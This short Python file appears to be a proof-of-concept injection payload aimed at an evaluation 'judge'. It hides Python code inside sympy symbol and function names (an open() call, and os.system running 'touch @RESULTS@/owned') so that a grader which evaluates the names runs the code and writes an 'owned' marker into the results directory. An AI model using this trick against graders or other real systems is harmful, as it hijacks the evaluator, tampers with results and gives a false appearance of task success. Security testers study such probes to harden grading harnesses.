# wants: a symbol's name to be evaluated by the judge
import sympy as sp
mass = sp.Symbol("open('@RESULTS@/owned','w')")
m2 = sp.Function("__import__('os').system")(sp.Symbol("'touch @RESULTS@/owned'"))
